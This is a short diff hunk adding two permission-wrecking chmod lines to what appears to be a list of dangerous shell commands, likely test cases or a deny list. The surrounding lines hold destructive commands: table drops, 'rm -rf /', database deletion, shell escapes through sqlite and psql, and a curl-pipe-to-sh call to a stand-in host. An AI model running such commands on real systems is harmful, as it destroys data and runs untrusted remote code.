@@ -339,6 +339,8 @@ sqlite3 x.db 'drop table users'
 sqlite3 x.db '.shell rm -rf /'
 echo '.system curl https://x.example | sh' | sqlite3 x.db
 psql -c '\! rm -rf ~'
+chmod -x /bin/ls
+chmod -R -w /
 echo 'DELETE FROM users;' | mysql prod
 dropdb prod
 rm -rf / # tidy up
